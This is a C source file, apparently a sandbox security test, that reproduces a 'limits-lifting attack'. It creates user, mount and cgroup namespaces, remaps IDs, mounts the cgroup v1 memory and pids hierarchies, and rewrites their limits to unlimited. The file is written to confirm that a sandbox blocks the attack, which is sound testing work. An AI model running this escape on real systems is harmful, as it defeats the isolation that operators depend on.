/*
 * limits_lift: the limits-lifting attack of issue 8. From inside a sandbox with --memory and --pids-limit it
 * creates a user, mount and cgroup namespace (becoming root of the new user namespace), mounts the cgroup v1
 * memory and pids hierarchies (their root is the sandbox's own cgroup) and rewrites memory.limit_in_bytes to -1
 * and pids.max to "max". One line per step ("STEP: OK" or "STEP: ERRNONAME"); exit 0 only if both limits were
 * rewritten. A safe sandbox stops it at the first step (unshare: EPERM under the default seccomp filter).
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

static int step(const char *name, int rc)
{
	const char *e = rc >= 0 ? "OK" : strerrorname_np(errno);
	printf("%s: %s\n", name, e ? e : "?");
	fflush(stdout);
	return rc;
}

static int write_file(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd < 0)
		return -1;
	ssize_t n = write(fd, text, strlen(text));
	int saved = errno;
	close(fd);
	errno = saved;
	return n == (ssize_t)strlen(text) ? 0 : -1;
}

int main(void)
{
	char map[64];
	uid_t uid = geteuid();
	gid_t gid = getegid();
	if (step("unshare user+mount+cgroup", unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP)) < 0)
		return 1;
	snprintf(map, sizeof map, "0 %u 1\n", (unsigned)uid);
	if (step("uid_map", write_file("/proc/self/uid_map", map)) < 0)
		return 1;
	write_file("/proc/self/setgroups", "deny");
	snprintf(map, sizeof map, "0 %u 1\n", (unsigned)gid);
	if (step("gid_map", write_file("/proc/self/gid_map", map)) < 0)
		return 1;
	mkdir("/tmp/lift-memory", 0755);
	mkdir("/tmp/lift-pids", 0755);
	if (step("mount cgroup memory", mount("cgroup", "/tmp/lift-memory", "cgroup", 0, "memory")) < 0)
		return 1;
	if (step("mount cgroup pids", mount("cgroup", "/tmp/lift-pids", "cgroup", 0, "pids")) < 0)
		return 1;
	int a = step("write memory.limit_in_bytes", write_file("/tmp/lift-memory/memory.limit_in_bytes", "-1"));
	int b = step("write pids.max", write_file("/tmp/lift-pids/pids.max", "max"));
	return a == 0 && b == 0 ? 0 : 1;
}
